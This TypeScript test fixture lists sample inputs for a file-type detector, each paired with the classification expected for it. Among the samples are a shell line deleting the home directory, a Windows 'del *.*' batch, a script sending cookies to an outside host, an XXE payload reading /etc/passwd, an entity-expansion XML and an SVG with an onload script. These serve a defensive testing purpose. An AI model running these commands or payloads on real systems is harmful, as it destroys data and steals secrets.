import { latin, type Sample } from './Sample';

const utf16 = (text: string, mark = true) =>
  Uint8Array.from(Buffer.from((mark ? '\ufeff' : '') + text, 'utf16le'));

function utf32(text: string, isLittle: boolean): Uint8Array {
  const bytes = Buffer.alloc(text.length * 4);
  [...text].forEach((character, index) => {
    const code = character.codePointAt(0) ?? 0;
    if (isLittle) bytes.writeUInt32LE(code, index * 4);
    else bytes.writeUInt32BE(code, index * 4);
  });
  return Uint8Array.from(bytes);
}

/** What texts turn out to be: notes, tables, code, and what filters and browsers put in a file's place. */
export const texts: readonly Sample[] = [
  ['a note', 'Dear Jo, here is the plan we spoke of.', 'fileForeign text'],
  ['one word', 'plan', 'fileForeign text'],
  ['a number', '42', 'fileForeign json'],
  ['a word in quotes', '"linkready"', 'fileForeign json'],
  ['true', 'true', 'fileForeign json'],
  ['null', 'null', 'fileForeign json'],
  ['an empty list', '[]', 'fileForeign json'],
  ['an empty object', '{}', 'fileForeign json'],
  ['nothing', '', 'fileEmpty'],
  ['blanks', ' \r\n\t\u3000', 'fileEmpty'],
  ['a mark of UTF-8 alone', '\ufeff', 'fileEmpty'],
  ['a mark of UTF-16 alone', utf16(''), 'fileEmpty'],
  ['zeros, as a failing disk leaves', new Uint8Array(4_096), 'fileEmpty'],
  ['a note in UTF-16', utf16('Dear Jo, here is the plan.'), 'fileForeign text'],
  [
    'a note in UTF-16 without its mark',
    utf16('Dear Jo, here is the plan.', false),
    'fileForeign text',
  ],
  ['a note in UTF-32', utf32('\ufeffDear Jo', true), 'fileForeign unknown'],
  ['a note in UTF-32, the other way round', utf32('Dear Jo', false), 'fileForeign unknown'],
  ['a note in Latin-1', latin('Caf\xe9 and cr\xe8che'), 'fileForeign unknown'],
  ['a table in code page 1252', latin('Site;Score\r\nSt\x96Mary;\x80 12'), 'fileForeign unknown'],
  [
    'an object in EBCDIC',
    latin('\xc0\x7f\x86\x96\x99\x94\x81\xa3\x7f\x7a\x7f\xd0'),
    'fileForeign unknown',
  ],
  [
    'UTF-16 cut inside a letter',
    utf16('{"format":"linkready"').slice(0, -1),
    'fileForeign unknown',
  ],
  ['letters of no encoding', latin('\xc3\x28\xa0\xa1\xe2\x28\xa1'), 'fileForeign unknown'],
  ['a text with zeros in it', 'LINK\0READY', 'fileForeign unknown'],
  ['a table with semicolons', 'Site;Score\r\nElm;2', 'fileForeign text'],
  ['a table with tabs', 'Site\tScore\nElm\t2', 'fileForeign text'],
  ['YAML', 'site: Elm Street\nscore: 2\n', 'fileForeign text'],
  ['TOML', '[site]\nname = "Elm Street"\n', 'fileForeign text'],
  ['Markdown', '# Plan\n\n* one\n* two\n', 'fileForeign text'],
  ['LaTeX', '\\documentclass{article}\n\\begin{document}', 'fileForeign text'],
  ['a query', 'SELECT * FROM plans WHERE site = 1;', 'fileForeign text'],
  ['a script of a shell', '#!/bin/sh\nrm -rf "$HOME"\n', 'fileForeign text'],
  ['a batch of Windows', '@echo off\r\ndel *.*\r\n', 'fileForeign text'],
  ['a script of a browser', 'fetch("https://example.org/?" + document.cookie)', 'fileForeign text'],
  [
    'JavaScript that gives an object',
    'module.exports = { format: "linkready" }',
    'fileForeign text',
  ],
  ['JSON in single quotes', "{'format': 'linkready'}", 'fileNotReadable'],
  ['JSON without quotes', '{format: linkready}', 'fileNotReadable'],
  ['JSON for a callback', 'callback({"format":"linkready"});', 'fileInvalid formatVersion missing'],
  ['JSON with curly quotes', '{“format”: “linkready”}', 'fileNotReadable'],
  [
    'a certificate',
    '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
    'fileForeign text',
  ],
  [
    'a locked message',
    '-----BEGIN PGP MESSAGE-----\n\nhQEM\n-----END PGP MESSAGE-----',
    'fileForeign protected',
  ],
  ['uuencoded data', 'begin 644 plan.linkready\n#0V%T\n`\nend', 'fileForeign text'],
  ['base64 alone', 'eyJmb3JtYXQiOiJvdGhlciJ9', 'fileForeign text'],
  ['a contact', 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Jo', 'fileForeign contact'],
  ['a meeting', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VEVENT', 'fileForeign calendar'],
  ['a web page', '<!DOCTYPE html>\n<title>Social prescribing</title>', 'fileForeign webPage'],
  ['a web page without its first line', '<html lang="en"><body>x', 'fileForeign webPage'],
  [
    'a page to sign in, saved as a plan',
    '\r\n\r\n<!-- Copyright (C) Microsoft -->\r\n<!DOCTYPE html><html><head><title>Sign in to your account</title>',
    'fileForeign webPage',
  ],
  [
    'a page that waits for a virus scan',
    '<html><head><title>Virus scan warning</title>',
    'fileForeign webPage',
  ],
  [
    'a page saved with its pictures',
    'From: <Saved by Blink>\r\nSnapshot-Content-Location: https://x.org/\r\nMIME-Version: 1.0\r\n\r\n',
    'fileForeign webPage',
  ],
  ['a feed of news', '<?xml version="1.0"?><rss version="2.0"/>', 'fileForeign xml'],
  [
    'a list of settings of a Mac',
    '<?xml version="1.0"?><!DOCTYPE plist><plist/>',
    'fileForeign xml',
  ],
  [
    'XML that names a file of the device',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    'fileForeign xml',
  ],
  [
    'XML that swells',
    `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(50)}]><a>&x;</a>`,
    'fileForeign xml',
  ],
  ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'fileForeign image'],
  ['a drawing behind a comment', '<?xml version="1.0"?><!-- x --><svg/>', 'fileForeign image'],
  [
    'a shortcut of Windows',
    '[InternetShortcut]\r\nURL=https://example.sharepoint.com/plan',
    'fileForeign shortcut',
  ],
  [
    'a shortcut of a Linux desktop',
    '[Desktop Entry]\nType=Link\nURL=https://example.org',
    'fileForeign shortcut',
  ],
  [
    'a shortcut of a Mac',
    '<?xml version="1.0"?><plist><dict><key>URL</key><string>https://x</string></dict></plist>',
    'fileForeign shortcut',
  ],
  [
    'a link to a document of Google',
    '{"":"WARNING! DO NOT EDIT THIS FILE!","doc_id":"1x","resource_key":"","email":"jo@x.org"}',
    'fileForeign shortcut',
  ],
  [
    'an older link to a document of Google',
    '{"url": "https://docs.google.com/open?id=1x", "doc_id": "1x", "email": "jo@x.org"}',
    'fileForeign shortcut',
  ],
  [
    'what a filter put in a file’s place',
    'The attachment plan.linkready was removed because its type is not allowed.',
    'fileForeign filtered',
  ],
  [
    'what another filter put there',
    'WARNING: This e-mail has been altered by MIMEDefang.\nAn attachment named plan.linkready was removed from this document.',
    'fileForeign filtered',
  ],
  [
    'what a scanner put there',
    'Malware Alert Text.txt\r\nMalware was detected in one or more attachments included with this email message. All attachments have been deleted.',
    'fileForeign filtered',
  ],
  [
    'what a gateway put there',
    'File name: plan.zip\nThis file has been quarantined. Contact your administrator to release the attachment.',
    'fileForeign filtered',
  ],
  [
    'a pointer to a large file',
    'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 12',
    'fileForeign text',
  ],
];
